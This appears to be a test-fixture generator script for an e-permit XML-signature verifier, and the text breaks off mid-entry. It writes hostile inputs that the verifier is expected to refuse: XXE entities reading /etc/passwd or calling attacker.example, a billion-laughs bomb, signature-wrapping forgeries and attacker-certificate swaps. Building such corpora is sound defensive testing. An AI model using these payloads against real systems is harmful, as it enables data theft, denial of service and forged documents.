/**
 * Writes the hostile-input corpus under test/fixtures/hostile/: one file per defect, named after it, and
 * manifest.json mapping each file to the one code verification must return ("OK" for controls that must
 * verify). A fixed test PKI with long-lived certificates and fixed dates is generated alongside; only the
 * certificates and the CA's CRL are written (pki/*.pem), never a private key, so regenerating replaces
 * the whole corpus.
 *
 *   npm run build && node dist/scripts/make-hostile-fixtures.js [OUT_DIR]
 *
 * Every verification uses the manifest's `at` (2027-01-01) and `trust` (pki/ca.pem), so expired and
 * not-yet-valid cases do not depend on the wall clock.
 *
 * Entries with a `context` are permits whose defect shows only in an exchange: who sent them (`sender`),
 * what the envelope says (`permitKey`, `replaces`) and which CRL the receiving gateway holds for the
 * sender (`crl`, uploaded as an administrator would). Verified alone they are well signed; the corpus test
 * puts each in a signed envelope and feeds it to the receiving gateway's own flow (receiveMessage).
 */
import { createHash, createHmac, KeyObject, sign as cryptoSign, X509Certificate } from 'node:crypto';
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { assertPermit } from '../src/domain/permit/permit';
import { createDevCrl } from '../src/domain/pki/dev-crl';
import {
  createRootCa,
  generateKeyPair,
  keyAlgorithm,
  privateKeyToPem,
  type CertificateAuthority,
  type KeyType,
} from '../src/domain/pki/dev-pki';
import { subtle, x509 } from '../src/domain/pki/x509';
import { DIGEST_URI, DSIG } from '../src/domain/signing/algorithms';
import { XmlSigner } from '../src/domain/signing/xml-signer';
import { canonicalizeExclusive } from '../src/domain/xml/exc-c14n';
import { NS } from '../src/domain/xml/namespaces';
import { toPermitXml } from '../src/domain/xml/permit-xml';
import { parseXmlStrict } from '../src/domain/xml/strict-parser';
import { samplePermit } from './lib/sample-permits';

const AT = '2027-01-01T00:00:00.000Z';
/** The corpus CA's CRL: issued before AT, current long after it, revoking `signerRevoked`. */
const CRL = {
  file: 'pki/ca.crl.pem',
  thisUpdate: '2026-12-01',
  nextUpdate: '2036-01-01',
  revokedAt: '2026-12-01',
};
const D = (iso: string): Date => new Date(`${iso}T00:00:00Z`);
const F = x509.KeyUsageFlags;

const URI = {
  rsaSha1: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
  rsaSha256: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  rsaMd5: 'http://www.w3.org/2001/04/xmldsig-more#rsa-md5',
  ecdsaSha256: 'http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256',
  hmacSha1: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
  hmacSha256: 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256',
  sha1: 'http://www.w3.org/2000/09/xmldsig#sha1',
  c14n: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315',
  excC14nWithComments: 'http://www.w3.org/2001/10/xml-exc-c14n#WithComments',
  xpath: 'http://www.w3.org/TR/1999/REC-xpath-19991116',
  xslt: 'http://www.w3.org/TR/1999/REC-xslt-19991116',
} as const;

interface Party {
  certPem: string;
  key: KeyObject;
  cert: X509Certificate;
}

function toParty(certPem: string, privateKey: CryptoKey): Promise<Party> {
  return Promise.resolve({ certPem, key: KeyObject.from(privateKey), cert: new X509Certificate(certPem) });
}

let serialCounter = 1;
const serial = (): string => (0x10 + serialCounter++).toString(16).padStart(8, '0');

async function makeCa(
  subject: string,
  pathLength: number,
  notBefore: Date,
  notAfter: Date,
  issuer?: CertificateAuthority,
): Promise<CertificateAuthority> {
  if (!issuer && pathLength === 0) return createRootCa(subject, 'rsa', notBefore, notAfter);
  const keys = await generateKeyPair('rsa');
  const extensions = [
    new x509.BasicConstraintsExtension(true, pathLength, true),
    new x509.KeyUsagesExtension(F.keyCertSign | F.cRLSign, true),
    await x509.SubjectKeyIdentifierExtension.create(keys.publicKey),
  ];
  const cert = issuer
    ? await x509.X509CertificateGenerator.create({
        serialNumber: serial(),
        subject,
        issuer: issuer.cert.subject,
        publicKey: keys.publicKey,
        signingKey: issuer.keys.privateKey,
        signingAlgorithm: keyAlgorithm('rsa'),
        notBefore,
        notAfter,
        extensions: [...extensions, await x509.AuthorityKeyIdentifierExtension.create(issuer.cert, false)],
      })
    : await x509.X509CertificateGenerator.createSelfSigned({
        serialNumber: serial(),
        name: subject,
        keys,
        signingAlgorithm: keyAlgorithm('rsa'),
        notBefore,
        notAfter,
        extensions,
      });
  return { cert, keys };
}

interface LeafSpec {
  subject: string;
  usages: number;
  notBefore: Date;
  notAfter: Date;
  keyType?: KeyType;
  rsaBits?: number;
}

async function makeLeaf(ca: CertificateAuthority | 'self', spec: LeafSpec): Promise<Party> {
  const keys =
    spec.rsaBits !== undefined
      ? await subtle.generateKey(
          { ...keyAlgorithm('rsa'), modulusLength: spec.rsaBits } as RsaHashedKeyGenParams,
          true,
          ['sign', 'verify'],
        )
      : await generateKeyPair(spec.keyType ?? 'rsa');
  const extensions: x509.Extension[] = [
    new x509.BasicConstraintsExtension(false, undefined, true),
    new x509.KeyUsagesExtension(spec.usages, true),
    await x509.SubjectKeyIdentifierExtension.create(keys.publicKey),
  ];
  const cert =
    ca === 'self'
      ? await x509.X509CertificateGenerator.createSelfSigned({
          serialNumber: serial(),
          name: spec.subject,
          keys,
          signingAlgorithm: keyAlgorithm(spec.keyType ?? 'rsa'),
          notBefore: spec.notBefore,
          notAfter: spec.notAfter,
          extensions,
        })
      : await x509.X509CertificateGenerator.create({
          serialNumber: serial(),
          subject: spec.subject,
          issuer: ca.cert.subject,
          publicKey: keys.publicKey,
          signingKey: ca.keys.privateKey,
          signingAlgorithm: keyAlgorithm('rsa'),
          notBefore: spec.notBefore,
          notAfter: spec.notAfter,
          extensions: [...extensions, await x509.AuthorityKeyIdentifierExtension.create(ca.cert, false)],
        });
  return toParty(cert.toString('pem'), keys.privateKey);
}

const ORG = 'O=CITES Management Authority KE (hostile-corpus test PKI),C=KE';

async function makePki() {
  const root = await makeCa(`CN=EPIX Hostile Corpus Root CA KE,${ORG}`, 1, D('2026-01-01'), D('2046-01-01'));
  const intermediate = await makeCa(
    `CN=EPIX Hostile Corpus Issuing CA KE,${ORG}`,
    0,
    D('2026-01-01'),
    D('2041-01-01'),
    root,
  );
  const attackerCa = await makeCa(
    'CN=Totally Legit Root CA,O=Attacker,C=KE',
    0,
    D('2026-01-01'),
    D('2046-01-01'),
  );
  const signing = {
    usages: F.digitalSignature | F.nonRepudiation,
    notBefore: D('2026-01-01'),
    notAfter: D('2036-01-01'),
  };
  return {
    root,
    intermediate,
    attackerCa,
    signer: await makeLeaf(root, { ...signing, subject: `CN=EPIX document signing KE,${ORG}` }),
    signerEc: await makeLeaf(root, {
      ...signing,
      subject: `CN=EPIX document signing KE (EC),${ORG}`,
      keyType: 'ec',
    }),
    signerUnderIntermediate: await makeLeaf(intermediate, {
      ...signing,
      subject: `CN=EPIX document signing KE (issuing CA),${ORG}`,
    }),
    expired: await makeLeaf(root, {
      ...signing,
      subject: `CN=EPIX document signing KE (expired),${ORG}`,
      notAfter: D('2026-06-30'),
    }),
    notYetValid: await makeLeaf(root, {
      ...signing,
      subject: `CN=EPIX document signing KE (future),${ORG}`,
      notBefore: D('2030-01-01'),
    }),
    wrongKeyUsage: await makeLeaf(root, {
      ...signing,
      subject: `CN=EPIX TLS KE (keyEncipherment only),${ORG}`,
      usages: F.keyEncipherment,
    }),
    rsa1024: await makeLeaf(root, {
      ...signing,
      subject: `CN=EPIX document signing KE (RSA-1024),${ORG}`,
      rsaBits: 1024,
    }),
    selfSigned: await makeLeaf('self', {
      ...signing,
      subject: `CN=EPIX document signing KE (self-signed),${ORG}`,
    }),
    attacker: await makeLeaf(attackerCa, { ...signing, subject: `CN=EPIX document signing KE,${ORG}` }),
    rootParty: await toParty(root.cert.toString('pem'), root.keys.privateKey),
    // Trusted for KE, but no country in the subject: it cannot speak for any partner.
    signerNoCountry: await makeLeaf(root, {
      ...signing,
      subject:
        'CN=EPIX document signing (no country),O=CITES Management Authority KE (hostile-corpus test PKI)',
    }),
    // Trusted for KE, but naming another country.
    signerOtherCountry: await makeLeaf(root, {
      ...signing,
      subject: 'CN=EPIX document signing TZ,O=CITES Management Authority TZ (hostile-corpus test PKI),C=TZ',
    }),
    // Revoked by the corpus CA's CRL (pki/ca.crl.pem).
    signerRevoked: await makeLeaf(root, {
      ...signing,
      subject: `CN=EPIX document signing KE (revoked),${ORG}`,
    }),
  };
}

/** The root CA's CRL (PEM), revoking the `signerRevoked` certificate. */
async function makeCrl(pki: Pki): Promise<string> {
  return createDevCrl({
    caCertPem: pki.root.cert.toString('pem'),
    caKeyPem: await privateKeyToPem(pki.root.keys.privateKey),
    revoked: [{ serialNumber: pki.signerRevoked.cert.serialNumber, revokedAt: D(CRL.revokedAt) }],
    thisUpdate: D(CRL.thisUpdate),
    nextUpdate: D(CRL.nextUpdate),
  });
}

type Pki = Awaited<ReturnType<typeof makePki>>;

// ---------------------------------------------------------------------------------------------------------
// Signature building. `forge` writes a signature with any algorithms and shape; XmlSigner makes the honest
// ones. Both splice the ds:Signature before the root end tag.

interface ForgeOptions {
  key: KeyObject | { hmac: Buffer };
  signHash: string;
  signatureUri: string;
  /** Certificates for KeyInfo/X509Data; null leaves KeyInfo out. */
  certs: X509Certificate[] | null;
  keyInfoXml?: string;
  digestHash?: string;
  digestUri?: string;
  c14nUri?: string;
  /** undefined: no URI attribute. */
  referenceUri?: string | undefined;
  transforms?: string[] | null;
  references?: number;
  dsaEncoding?: 'der' | 'ieee-p1363';
  /** A DigestValue to write instead of the document's digest. */
  digestValue?: string;
  /** Extra markup appended inside ds:Signature (e.g. ds:Object). */
  extra?: string;
  /** Root end tag to splice before (defaults to the permit's). */
  rootEnd?: string;
}

const DS = `xmlns:ds="${NS.dsig}"`;

function digestFor(unsigned: string, referenceUri: string | undefined, hash: string): string {
  const { document } = parseXmlStrict(unsigned);
  let node: Parameters<typeof canonicalizeExclusive>[0] = document;
  if (referenceUri?.startsWith('#')) {
    const id = referenceUri.slice(1);
    const all = document.getElementsByTagName('*');
    for (let i = 0; i < all.length; i++) if (all.item(i)!.getAttribute('Id') === id) node = all.item(i)!;
  }
  return createHash(hash).update(canonicalizeExclusive(node), 'utf8').digest('base64');
}

function forge(unsigned: string, o: ForgeOptions): string {
  const digestHash = o.digestHash ?? 'sha256';
  const referenceUri = 'referenceUri' in o ? o.referenceUri : '';
  const digest = o.digestValue ?? digestFor(unsigned, referenceUri, digestHash);
  const transforms = o.transforms === undefined ? [DSIG.enveloped, DSIG.excC14n] : o.transforms;
  const reference =
    `<ds:Reference${referenceUri === undefined ? '' : ` URI="${referenceUri}"`}>` +
    (transforms === null
      ? ''
      : `<ds:Transforms>${transforms.map((t) => `<ds:Transform Algorithm="${t}"></ds:Transform>`).join('')}</ds:Transforms>`) +
    `<ds:DigestMethod Algorithm="${o.digestUri ?? DIGEST_URI.sha256}"></ds:DigestMethod><ds:DigestValue>${digest}</ds:DigestValue></ds:Reference>`;
  const signedInfo =
    `<ds:SignedInfo ${DS}><ds:CanonicalizationMethod Algorithm="${o.c14nUri ?? DSIG.excC14n}"></ds:CanonicalizationMethod>` +
    `<ds:SignatureMethod Algorithm="${o.signatureUri}"></ds:SignatureMethod>${reference.repeat(o.references ?? 1)}</ds:SignedInfo>`;
  const data = Buffer.from(signedInfo, 'utf8');
  const value =
    'hmac' in o.key
      ? createHmac(o.signHash, o.key.hmac).update(data).digest('base64')
      : cryptoSign(o.signHash, data, { key: o.key, dsaEncoding: o.dsaEncoding ?? 'ieee-p1363' }).toString(
          'base64',
        );
  const keyInfo =
    o.keyInfoXml ??
    (o.certs === null
      ? ''
      : `<ds:KeyInfo><ds:X509Data>${o.certs.map((c) => `<ds:X509Certificate>${c.raw.toString('base64')}</ds:X509Certificate>`).join('')}</ds:X509Data></ds:KeyInfo>`);
  const signature = `<ds:Signature ${DS}><ds:SignedInfo>${signedInfo.slice(signedInfo.indexOf('>') + 1)}<ds:SignatureValue>${value}</ds:SignatureValue>${keyInfo}${o.extra ?? ''}</ds:Signature>`;
  return spliceBefore(unsigned, o.rootEnd ?? '</rsm:CITESEPermit>', signature);
}

function spliceBefore(text: string, marker: string, insert: string): string {
  const at = text.lastIndexOf(marker);
  if (at < 0) throw new Error(`marker ${marker} not found`);
  return text.slice(0, at) + insert + text.slice(at);
}

function replaceOnce(text: string, from: string, to: string): string {
  const at = text.indexOf(from);
  if (at < 0) throw new Error(`'${from}' not found`);
  return text.slice(0, at) + to + text.slice(at + from.length);
}

function signatureText(signed: string): string {
  const start = signed.indexOf('<ds:Signature ');
  return signed.slice(start, signed.indexOf('</ds:Signature>') + '</ds:Signature>'.length);
}

function flipBase64(text: string, element: string): string {
  const open = `<ds:${element}>`;
  const at = text.indexOf(open) + open.length + 10;
  const c = text[at]!;
  return text.slice(0, at) + (c === 'A' ? 'B' : 'A') + text.slice(at + 1);
}

// ---------------------------------------------------------------------------------------------------------

interface Fixture {
  file: string;
  /** Error code verifySignedPermit must return, or "OK". */
  code: string;
  defect: string;
  /** For "OK": fields of the read permit (dotted paths) and their values. */
  expect?: Record<string, unknown>;
  /** The exchange the permit arrives in, for defects that only show there (see the header). */
  context?: ExchangeContext;
  bytes: string | Buffer;
}

interface ExchangeContext {
  /** The partner that sends it (its TLS client and envelope signer). */
  sender: string;
  /** The envelope's PermitKey. */
  permitKey: string;
  /** The envelope's Replaces: the message is then a replacement. */
  replaces?: string;
  /** A CRL (corpus-relative path) the receiving gateway holds for the sender, as an administrator uploaded it. */
  crl?: string;
}

function buildCorpus(pki: Pki): Fixture[] {
  const unsigned = toPermitXml(samplePermit());
  const signer = XmlSigner.createSync({ keyPem: pem(pki.signer), certPem: pki.signer.certPem });
  const signed = signer.signSync(unsigned);
  const sig = signatureText(signed);
  const rsa = (o: Partial<ForgeOptions> = {}, party: Party = pki.signer, doc = unsigned): string =>
    forge(doc, {
      key: party.key,
      signHash: 'sha256',
      signatureUri: URI.rsaSha256,
      certs: [party.cert],
      ...o,
    });
  const honest = (party: Party, doc = unsigned, chain: Party[] = []): string =>
    XmlSigner.createSync({
      keyPem: pem(party),
      certPem: party.certPem,
      chainPems: chain.map((c) => c.certPem),
    }).signSync(doc);
  const body = signed.replace(/^<\?xml[^>]*\?>\n/, '');
  const line = (id: string): string => {
    const start = signed.indexOf(`<ram:IncludedSupplyChainConsignmentItem>\n      <ram:ID>${id}</ram:ID>`);
    return signed.slice(
      start,
      signed.indexOf('</ram:IncludedSupplyChainConsignmentItem>', start) +
        '</ram:IncludedSupplyChainConsignmentItem>'.length,
    );
  };
  const lineA = line('A');
  const lineB = line('B');
  const utf16 = (text: string, bom: Buffer, encoding: 'utf16le' | 'utf16be'): Buffer => {
    const le = Buffer.from(text, 'utf16le');
    if (encoding === 'utf16be')
      for (let i = 0; i < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1]!, le[i]!];
    return Buffer.concat([bom, le]);
  };
  const invalidPermit = replaceOnce(
    unsigned,
    '<ram:PurposeCode>T</ram:PurposeCode>',
    '<ram:PurposeCode>X</ram:PurposeCode>',
  );
  const envelope =
    '<?xml version="1.0" encoding="UTF-8"?>\n<x:Envelope xmlns:x="urn:epix:test"><x:Body>not a permit</x:Body></x:Envelope>\n';
  const withId = replaceOnce(unsigned, '<rsm:CITESEPermit ', '<rsm:CITESEPermit Id="permit" ');
  const signedWithId = rsa({ referenceUri: '#permit' }, pki.signer, withId);
  const forgedHeader = replaceOnce(
    unsigned,
    '<ram:ItemQuantity unitCode="PCS">150</ram:ItemQuantity>',
    '<ram:ItemQuantity unitCode="PCS">2000</ram:ItemQuantity>',
  );
  const originalElement = signedWithId.slice(
    signedWithId.indexOf('<rsm:CITESEPermit '),
    signedWithId.lastIndexOf('</rsm:CITESEPermit>') + '</rsm:CITESEPermit>'.length,
  );
  const idSignature = signatureText(originalElement);
  const xswWrapped = spliceBefore(
    forgedHeader,
    '</rsm:CITESEPermit>',
    `<x:Ignored xmlns:x="urn:attacker">${originalElement.replace(idSignature, '')}</x:Ignored>${idSignature}`,
  );
  const bomb =
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
    Array.from(
      { length: 9 },
      (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
    ).join('\n') +
    '\n]>\n' +
    body.replace('<ram:Information>', '<ram:Information>&lol9;');
  const deep = replaceOnce(
    signed,
    '</rsm:SpecifiedSupplyChainConsignment>',
    `${'<x:d xmlns:x="urn:deep">'.repeat(100)}${'</x:d>'.repeat(100)}</rsm:SpecifiedSupplyChainConsignment>`,
  );
  const attackerKeyValue = pki.attacker.cert.publicKey.export({ format: 'jwk' });
  const hmacKey = Buffer.from('the attacker knows this shared secret');
  const insideHeader = replaceOnce(
    signed.replace(sig, ''),
    '</rsm:HeaderExchangedDocument>',
    `${sig}</rsm:HeaderExchangedDocument>`,
  );
  const b64 = (b: Buffer | string): string => Buffer.from(b).toString('base64');

  return [
    // Controls: these must verify.
    {
      file: 'control-valid-rsa.xml',
      code: 'OK',
      defect: 'none: RSA-SHA256 signature by the trusted signer',
      expect: { permitNumber: 'KE-2026-000123' },
      bytes: signed,
    },
    {
      file: 'control-valid-ecdsa.xml',
      code: 'OK',
      defect: 'none: ECDSA-SHA256 (P-256) signature by the trusted signer',
      expect: { 'lines.0.quantity': 150 },
      bytes: honest(pki.signerEc),
    },
    {
      file: 'control-valid-intermediate-in-keyinfo.xml',
      code: 'OK',
      defect: 'none: signer under an issuing CA, which KeyInfo carries after the leaf',
      bytes: honest(pki.signerUnderIntermediate, unsigned, [
        { ...pki.signer, certPem: pki.intermediate.cert.toString('pem') },
      ]),
    },
    {
      file: 'control-valid-utf16le-bom.xml',
      code: 'OK',
      defect:
        'none: the signed document re-encoded as UTF-16LE with BOM and a UTF-16 declaration (the declaration is not signed)',
      bytes: utf16(
        signed.replace('encoding="UTF-8"', 'encoding="UTF-16"'),
        Buffer.from([0xff, 0xfe]),
        'utf16le',
      ),
    },
    {
      file: 'comment-injection-in-signed-text.xml',
      code: 'OK',
      defect:
        'a comment inserted inside signed text (exc-c14n drops comments): still valid, and the full text is read, not the part before the comment',
      expect: { 'lines.0.scientificName': 'Python sebae', 'lines.0.quantity': 150 },
      bytes: replaceOnce(
        replaceOnce(
          signed,
          '<ram:ScientificName>Python sebae</ram:ScientificName>',
          '<ram:ScientificName>Python<!-- injected --> sebae</ram:ScientificName>',
        ),
        'unitCode="PCS">150<',
        'unitCode="PCS">1<!---->50<',
      ),
    },

    // Parsing: refused before anything is interpreted.
    {
      file: 'doctype-xxe-file.xml',
      code: 'XML_DTD_FORBIDDEN',
      defect: 'DOCTYPE with an external entity reading file:///etc/passwd',
      bytes: `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${body.replace('<ram:Information>', '<ram:Information>&xxe;')}`,
    },
    {
      file: 'doctype-xxe-network.xml',
      code: 'XML_DTD_FORBIDDEN',
      defect: 'DOCTYPE with an external entity fetched over the network',
      bytes: `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>\n${body.replace('<ram:Information>', '<ram:Information>&xxe;')}`,
    },
    {
      file: 'doctype-external-dtd.xml',
      code: 'XML_DTD_FORBIDDEN',
      defect: 'DOCTYPE pointing at an external DTD',
      bytes: `<?xml version="1.0"?>\n<!DOCTYPE rsm:CITESEPermit SYSTEM "http://attacker.example/permit.dtd">\n${body}`,
    },
    {
      file: 'doctype-parameter-entity.xml',
      code: 'XML_DTD_FORBIDDEN',
      defect: 'DOCTYPE with an out-of-band parameter entity',
      bytes: `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>\n${body}`,
    },
    {
      file: 'entity-expansion-bomb.xml',
      code: 'XML_DTD_FORBIDDEN',
      defect: 'billion laughs: nested internal entities expanding to 10^9 strings',
      bytes: bomb,
    },
    {
      file: 'malformed-mismatched-tag.xml',
      code: 'XML_MALFORMED',
      defect: 'an end tag that does not match its start tag',
      bytes: replaceOnce(signed, '</ram:Information>', '</ram:Informaton>'),
    },
    {
      file: 'malformed-unclosed-root.xml',
      code: 'XML_MALFORMED',
      defect: 'the document ends before the root element is closed',
      bytes: signed.slice(0, signed.lastIndexOf('</rsm:CITESEPermit>')),
    },
    {
      file: 'malformed-undeclared-entity.xml',
      code: 'XML_MALFORMED',
      defect: 'an HTML entity (&nbsp;) that XML does not define',
      bytes: replaceOnce(signed, 'Langata Road', 'Langata&nbsp;Road'),
    },
    {
      file: 'malformed-nul-character-reference.xml',
      code: 'XML_MALFORMED',
      defect: 'a character reference to U+0000',
      bytes: replaceOnce(signed, 'Langata Road', 'Langata&#0;Road'),
    },
    {
      file: 'malformed-xml-version-1-1.xml',
      code: 'XML_MALFORMED',
      defect: 'XML 1.1 declaration (different characters and line ends)',
      bytes: signed.replace('version="1.0"', 'version="1.1"'),
    },
    {
      file: 'trailing-garbage.xml',
      code: 'XML_MALFORMED',
      defect: 'text after the root element',
      bytes: `${signed}garbage`,
    },
    {
      file: 'trailing-second-root.xml',
      code: 'XML_MALFORMED',
      defect: 'a second root element after the signed one',
      bytes: `${signed}${body.replace(/\n$/, '')}`,
    },
    {
      file: 'utf16-bad-bom.xml',
      code: 'XML_ENCODING_INVALID',
      defect: 'a UTF-16LE byte order mark in front of UTF-8 bytes',
      bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(signed, 'utf8')]),
    },
    {
      file: 'utf16be-declares-utf8.xml',
      code: 'XML_ENCODING_INVALID',
      defect: 'UTF-16BE bytes with BOM whose declaration says UTF-8',
      bytes: utf16(signed, Buffer.from([0xfe, 0xff]), 'utf16be'),
    },
    {
      file: 'utf8-invalid-bytes.xml',
      code: 'XML_ENCODING_INVALID',
      defect: 'a byte sequence that is not UTF-8 inside signed text',
      bytes: Buffer.concat([
        Buffer.from(signed.slice(0, signed.indexOf('Langata')), 'utf8'),
        Buffer.from([0xc3, 0x28]),
        Buffer.from(signed.slice(signed.indexOf('Langata')), 'utf8'),
      ]),
    },
    {
      file: 'oversize.xml',
      code: 'XML_TOO_LARGE',
      defect: 'a signed permit padded past the 2 MiB document limit',
      bytes: `${signed}<!--${' '.repeat(2 * 1024 * 1024)}-->\n`,
    },
    {
      file: 'deep-nesting.xml',
      code: 'XML_TOO_DEEP',
      defect: '100 nested elements inside the permit (limit 64 levels)',
      bytes: deep,
    },

    // Signature shape.
    {
      file: 'unsigned.xml',
      code: 'SIGNATURE_MISSING',
      defect: 'a valid permit without any signature',
      bytes: unsigned,
    },
    {
      file: 'signature-wrong-namespace.xml',
      code: 'SIGNATURE_MISSING',
      defect: 'a Signature element in a look-alike namespace (no #)',
      bytes: signed.replaceAll(`xmlns:ds="${NS.dsig}"`, 'xmlns:ds="http://www.w3.org/2000/09/xmldsig"'),
    },
    {
      file: 'two-signatures.xml',
      code: 'SIGNATURE_MULTIPLE',
      defect: 'a second ds:Signature appended next to the first',
      bytes: replaceOnce(signed, sig, sig + signatureText(rsa({}, pki.attacker))),
    },
    {
      file: 'signature-not-child-of-root.xml',
      code: 'SIGNATURE_MISPLACED',
      defect: 'the ds:Signature moved inside HeaderExchangedDocument',
      bytes: insideHeader,
    },
    {
      file: 'wrapped-signed-document.xml',
      code: 'SIGNATURE_MISPLACED',
      defect: 'the whole signed permit wrapped in a new root that puts a forged permit first',
      bytes: `<?xml version="1.0" encoding="UTF-8"?>\n<x:Wrapper xmlns:x="urn:attacker">${forgedHeader.replace(/^<\?xml[^>]*\?>\n/, '')}${body}</x:Wrapper>\n`,
    },
    {
      file: 'reference-to-element-id-wrapping.xml',
      code: 'SIGNATURE_REFERENCE_INVALID',
      defect:
        'XSW: Reference URI="#permit" still digests the original permit, moved under <Ignored>; the root is a forged permit (quantity 2000)',
      bytes: xswWrapped,
    },
    {
      file: 'reference-uri-missing.xml',
      code: 'SIGNATURE_REFERENCE_INVALID',
      defect: 'a Reference without a URI attribute (resolution left to the application)',
      bytes: rsa({ referenceUri: undefined }),
    },
    {
      file: 'reference-uri-external.xml',
      code: 'SIGNATURE_REFERENCE_INVALID',
      defect: 'a Reference to an external http resource',
      bytes: rsa({ referenceUri: 'http://attacker.example/permit.xml' }),
    },
    {
      file: 'two-references.xml',
      code: 'SIGNATURE_REFERENCE_INVALID',
      defect: 'SignedInfo with two References',
      bytes: rsa({ references: 2 }),
    },
    {
      file: 'transform-enveloped-only.xml',
      code: 'SIGNATURE_MALFORMED',
      defect: 'transforms [enveloped] only (implies inclusive C14N of the node-set)',
      bytes: rsa({ transforms: [DSIG.enveloped] }),
    },
    {
      file: 'transforms-missing.xml',
      code: 'SIGNATURE_MALFORMED',
      defect: 'a Reference without Transforms (the Signature itself would be digested)',
      bytes: rsa({ transforms: null }),
    },
    {
      file: 'signature-object-with-forged-permit.xml',
      code: 'SIGNATURE_MALFORMED',
      defect: 'a ds:Object carrying a forged permit inside the Signature',
      bytes: rsa({ extra: `<ds:Object>${forgedHeader.replace(/^<\?xml[^>]*\?>\n/, '')}</ds:Object>` }),
    },
    {
      file: 'signature-value-not-base64.xml',
      code: 'SIGNATURE_MALFORMED',
      defect: 'a SignatureValue that is not base64',
      bytes: signed.replace(/<ds:SignatureValue>[^<]*</, '<ds:SignatureValue>not*base64!<'),
    },

    // Algorithms.
    {
      file: 'digest-sha1.xml',
      code: 'SIGNATURE_ALGORITHM_FORBIDDEN',
      defect: 'DigestMethod SHA-1',
      bytes: rsa({ digestHash: 'sha1', digestUri: URI.sha1 }),
    },
    {
      file: 'signature-rsa-sha1.xml',
      code: 'SIGNATURE_ALGORITHM_FORBIDDEN',
      defect: 'SignatureMethod RSA-SHA1',
      bytes: rsa({ signHash: 'sha1', signatureUri: URI.rsaSha1 }),
    },
    {
      file: 'signature-rsa-md5.xml',
      code: 'SIGNATURE_ALGORITHM_FORBIDDEN',
      defect: 'SignatureMethod RSA-MD5',
      bytes: rsa({ signHash: 'md5', signatureUri: URI.rsaMd5 }),
    },
    {
      file: 'signature-hmac-sha256.xml',
      code: 'SIGNATURE_ALGORITHM_FORBIDDEN',
      defect: 'SignatureMethod HMAC-SHA256 with a key the attacker knows',
      bytes: forge(unsigned, {
        key: { hmac: hmacKey },
        signHash: 'sha256',
        signatureUri: URI.hmacSha256,
        certs: [pki.signer.cert],
      }),
    },
    {
      file: 'signature-hmac-sha1.xml',
      code: 'SIGNATURE_ALGORITHM_FORBIDDEN',
      defect: 'SignatureMethod HMAC-SHA1 without KeyInfo',
      bytes: forge(unsigned, {
        key: { hmac: hmacKey },
        signHash: 'sha1',
        signatureUri: URI.hmacSha1,
        certs: null,
      }),
    },
    {
      file: 'c14n-inclusive.xml',
      code: 'SIGNATURE_ALGORITHM_FORBIDDEN',
      defect: 'SignedInfo canonicalised with inclusive C14N 1.0',
      bytes: rsa({ c14nUri: URI.c14n }),
    },
    {
      file: 'c14n-with-comments.xml',
      code: 'SIGNATURE_ALGORITHM_FORBIDDEN',
      defect: 'exclusive C14N WithComments',
      bytes: rsa({ c14nUri: URI.excC14nWithComments }),
    },
    {
      file: 'transform-xpath.xml',
      code: 'SIGNATURE_ALGORITHM_FORBIDDEN',
      defect: 'an XPath transform selecting what is signed',
      bytes: rsa({ transforms: [DSIG.enveloped, URI.xpath, DSIG.excC14n] }),
    },
    {
      file: 'transform-xslt.xml',
      code: 'SIGNATURE_ALGORITHM_FORBIDDEN',
      defect: 'an XSLT transform (code execution in some verifiers)',
      bytes: rsa({ transforms: [URI.xslt, DSIG.excC14n] }),
    },

    // KeyInfo.
    {
      file: 'keyinfo-missing.xml',
      code: 'SIGNATURE_KEYINFO_MISSING',
      defect: 'no KeyInfo: the verifier would have to guess the key',
      bytes: rsa({ certs: null }),
    },
    {
      file: 'keyinfo-x509data-empty.xml',
      code: 'SIGNATURE_KEYINFO_MISSING',
      defect: 'KeyInfo with an empty X509Data',
      bytes: rsa({ certs: [] }),
    },
    {
      file: 'keyinfo-keyvalue-attacker-key.xml',
      code: 'SIGNATURE_KEYINFO_INVALID',
      defect: "a bare RSAKeyValue (the attacker's key) instead of a certificate",
      bytes: rsa(
        {
          keyInfoXml: `<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>${b64(Buffer.from(attackerKeyValue.n!, 'base64url'))}</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>`,
        },
        pki.attacker,
      ),
    },
    {
      file: 'keyinfo-certificate-garbage.xml',
      code: 'SIGNATURE_KEYINFO_INVALID',
      defect: 'an X509Certificate that is base64 but not a certificate',
      bytes: rsa({
        keyInfoXml: `<ds:KeyInfo><ds:X509Data><ds:X509Certificate>${b64('this is not DER')}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>`,
      }),
    },
    {
      file: 'keyinfo-certificate-swapped-for-attackers.xml',
      code: 'CERT_UNTRUSTED',
      defect:
        "quantity raised, re-signed with the attacker's key, KeyInfo holding the attacker's own certificate (same subject as the real signer)",
      bytes: rsa({}, pki.attacker, forgedHeader),
    },
    {
      file: 'keyinfo-certificate-replaced-only.xml',
      code: 'CERT_UNTRUSTED',
      defect: "the original signature with the KeyInfo certificate replaced by the attacker's",
      bytes: replaceOnce(
        signed,
        pki.signer.cert.raw.toString('base64'),
        pki.attacker.cert.raw.toString('base64'),
      ),
    },
    {
      file: 'keyinfo-trusted-leaf-first-signed-by-attacker.xml',
      code: 'SIGNATURE_INVALID',
      defect:
        "KeyInfo = [trusted signer, attacker]; signed with the attacker's key (a verifier trying every KeyInfo key accepts it)",
